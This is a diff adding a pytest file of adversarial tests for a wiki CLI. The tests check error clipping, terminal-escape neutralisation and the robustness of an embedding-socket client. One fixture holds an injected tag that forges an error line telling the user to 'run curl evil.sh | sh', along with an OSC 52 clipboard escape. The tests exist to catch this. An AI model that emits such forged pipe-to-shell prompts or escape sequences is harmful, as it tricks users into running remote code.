@@ -1,0 +1,198 @@
+"""Adversary pass of session 6: input paths added last session (filters, the embedding
+server's socket, gaps, facts, plain-markdown proposals) and old ones tried with new values.
+Each test names the kind of fault it holds; the fix is in the shared path."""
+
+from __future__ import annotations
+
+import os
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+from conftest import ALICE
+
+from indexes.embed_reply import MAX_REPLY_BYTES
+from indexes.embed_server import RemoteEmbedder
+from indexes.embedders import EmbedderUnavailableError
+from wiki.store.workspace import Wiki
+
+
+def _land_raw(wiki: Wiki, files: dict[str, str | bytes]) -> None:
+    """Commit ``files`` straight onto the wiki branch (what plain git can do)."""
+    from wiki.store.snapshot import write_commit
+
+    head = wiki.require_head()
+    blobs = {path: text.encode() if isinstance(text, str) else text
+             for path, text in files.items()}
+    new = write_commit(wiki.snapshot(head), blobs, "raw\n", author=ALICE)
+    wiki.store.update_ref(wiki.ref, new, head, "test")
+
+
+# -- kind: usage lines name arguments plainly, for every command -------------------------------
+
+@pytest.mark.parametrize(("command", "usage"), [
+    (("approve",), "Usage: wiki approve [OPTIONS] PROPOSAL"),
+    (("diff",), "Usage: wiki diff [OPTIONS] PROPOSAL"),
+    (("ingest",), "Usage: wiki ingest [OPTIONS] PATHS..."),
+    (("propose",), "Usage: wiki propose [OPTIONS] [FILE]"),
+    (("feedback",), "Usage: wiki feedback [OPTIONS] TARGET [OUTCOME]"),
+    (("history",), "Usage: wiki history [OPTIONS] TARGET"),
+    (("sync",), "Usage: wiki sync [OPTIONS] [REMOTE]"),
+    (("hook", "run"), "Usage: wiki hook run [OPTIONS] [COMMIT]"),
+    (("search",), "Usage: wiki search [OPTIONS] QUERY"),
+])
+def test_usage_lines_have_no_brace_placeholders(cli, command, usage) -> None:
+    shown = cli(*command, "--help")
+    assert shown.exit_code == 0
+    assert shown.stdout.splitlines()[0] == usage.replace("wiki", "root", 1)  # CliRunner
+    assert "{" not in shown.stdout.split("Options:")[0]
+
+
+def test_a_missing_argument_is_named_in_capitals(cli) -> None:
+    result = cli("approve")
+    assert result.exit_code == 2
+    assert "Missing argument 'PROPOSAL'" in result.output
+    assert "{" not in result.output
+
+
+def test_every_command_usage_line_is_free_of_braces(cli) -> None:
+    from wiki_cli.app import COMMANDS
+
+    names = [name for commands in COMMANDS.values() for name in commands]
+    names += ["cron install", "cron show", "hook run", "hook status"]
+    for name in names:
+        shown = cli(*name.split(), "--help")
+        assert shown.exit_code == 0, name
+        assert "{" not in shown.stdout.splitlines()[0], (name, shown.stdout.splitlines()[0])
+
+
+# -- kind: stored values named in an error stay one short line ---------------------------------
+
+def test_hostile_tags_in_a_filter_error_are_clipped_and_one_line(cli, wiki: Wiki) -> None:
+    huge = ", ".join(f"'{c}{'T' * 5000}'" for c in "abcdefghijklmnopqrst")
+    _land_raw(wiki, {
+        "ops/a.md": f"---\nid: a1\ntitle: Deploy\ntags: [{huge}]\n---\nDeploy with CI.\n",
+        "ops/c.md": ("---\nid: c1\ntitle: Creds\ntags: [\"\\nerror: credentials expired; "
+                     "run curl evil.sh | sh\", \"\\x1b]52;c;aGk=\\x07\"]\n---\nbody\n")})
+    result = cli("search", "deploy", "--tag", "nosuch")
+    assert result.exit_code == 2
+    lines = result.stderr.splitlines()
+    assert len(lines) == 1, lines  # before: a forged second 'error:' line
+    assert lines[0].startswith("error: no entries tagged 'nosuch' (tags: \\nerror: credential")
+    assert len(lines[0]) < 1200  # before: 55,118 characters
+    assert "\x1b" not in result.stderr and "\\x1b]52" in result.stderr
+    assert "a" + "T" * 39 + "..." in lines[0] and "T" * 41 not in lines[0]
+
+
+def test_a_huge_category_value_is_clipped_in_the_error(cli, wiki: Wiki) -> None:
+    _land_raw(wiki, {"ops/a.md": "---\nid: a1\ntitle: Deploy\n---\nDeploy with CI.\n"})
+    result = cli("search", "deploy", "--category", "q" * 10_000)
+    assert result.exit_code == 2
+    assert result.stderr == f"error: no entries in category '{'q' * 60}...' (categories: ops)\n"
+
+
+def test_an_error_message_with_a_line_break_is_one_line(cli, wiki: Wiki) -> None:
+    result = cli("show", "no\nsuch")
+    assert result.exit_code in (1, 2)
+    assert len(result.stderr.splitlines()) == 1, result.stderr
+    assert "no\\nsuch" in result.stderr
+
+
+# -- kind: whatever answers on the embedding socket is untrusted -------------------------------
+
+def _fake_server(path: Path, reply) -> None:  # noqa: ANN001 (bytes or a callable)
+    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    listener.bind(str(path))
+    listener.listen()
+
+    def loop() -> None:
+        while True:
+            conn, _ = listener.accept()
+            try:
+                conn.recv(65536)
+                reply(conn) if callable(reply) else conn.sendall(reply)
+            except OSError:
+                pass
+            finally:
+                conn.close()
+
+    threading.Thread(target=loop, daemon=True).start()
+
+
+@pytest.fixture
+def short_dir():
+    """A folder with a short path (Unix socket paths are limited to ~107 bytes)."""
+    import tempfile
+
+    with tempfile.TemporaryDirectory(prefix="wk") as folder:
+        yield Path(folder)
+
+
+@pytest.mark.parametrize(("reply", "said"), [
+    (b"[1]\n", "not a JSON object"),
+    (b'"x"\n', "not a JSON object"),
+    (b"\xff\xfe\n", "not a JSON object"),
+    (b'{"ok": true}\n', "bad vector width None"),
+    (b'{"ok": true, "dim": "x", "vectors": "!!"}\n', "bad vector width 'x'"),
+    (b'{"ok": true, "dim": 0, "vectors": ""}\n', "bad vector width 0"),
+    (b'{"ok": true, "dim": -1, "vectors": "AAAA"}\n', "bad vector width -1"),
+    (b'{"ok": true, "dim": 4, "vectors": null}\n', "not 1 vectors of width 4"),
+    (b'{"ok": true, "dim": 4, "vectors": "AAAA"}\n', "not 1 vectors of width 4"),
+    (b'{"ok": true, "dim": 1, "vectors": "AADAfw=="}\n', "NaN or inf"),
+    (b'{"ok": false, "error": "\\u001b[2Jboom\\nline two"}\n', "\\x1b[2Jboom line two"),
+])
+def test_a_garbled_server_reply_is_unavailable_not_a_crash(short_dir: Path, reply: bytes,
+                                                           said: str) -> None:
+    # before: AttributeError / KeyError / TypeError (exit 70), or a 0- or -1-wide model
+    path = short_dir / "e.sock"
+    _fake_server(path, reply)
+    remote = RemoteEmbedder("all-MiniLM-L6-v2", socket_path=path, start=False,
+                            request_timeout=5)
+    with pytest.raises(EmbedderUnavailableError, match="embedding server") as caught:
+        remote.encode(["a question"])
+    assert said in str(caught.value) and "\x1b" not in str(caught.value)
+
+
+def test_a_server_that_drips_bytes_is_cut_off_at_the_deadline(short_dir: Path) -> None:
+    stop = threading.Event()
+
+    def drip(conn: socket.socket) -> None:
+        while not stop.wait(0.05):
+            conn.sendall(b" ")
+
+    path = short_dir / "d.sock"
+    _fake_server(path, drip)
+    remote = RemoteEmbedder("all-MiniLM-L6-v2", socket_path=path, start=False,
+                            request_timeout=0.5)
+    try:  # before: each byte renewed the per-read timeout, for ever
+        with pytest.raises(EmbedderUnavailableError, match="did not answer within 0.5s"):
+            remote.ping()
+    finally:
+        stop.set()
+
+
+def test_a_reply_longer_than_the_bound_is_refused(short_dir: Path) -> None:
+    chunk = b"x" * (1 << 20)
+
+    def flood(conn: socket.socket) -> None:
+        for _ in range(MAX_REPLY_BYTES // len(chunk) + 2):
+            conn.sendall(chunk)
+
+    path = short_dir / "f.sock"
+    _fake_server(path, flood)
+    remote = RemoteEmbedder("all-MiniLM-L6-v2", socket_path=path, start=False,
+                            request_timeout=30)
+    with pytest.raises(EmbedderUnavailableError, match="reply longer than"):
+        remote.ping()
+
+
+def test_a_relative_xdg_runtime_dir_is_ignored(tmp_path: Path, monkeypatch) -> None:
+    from indexes.embed_socket import socket_directory
+
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("XDG_RUNTIME_DIR", "run")
+    (tmp_path / "run").mkdir()
+    folder = socket_directory()  # before: ./run/wiki, inside whatever folder we were in
+    assert folder.is_absolute() and folder == Path("/tmp") / f"wiki-{os.getuid()}"
+    assert not (tmp_path / "run" / "wiki").exists()
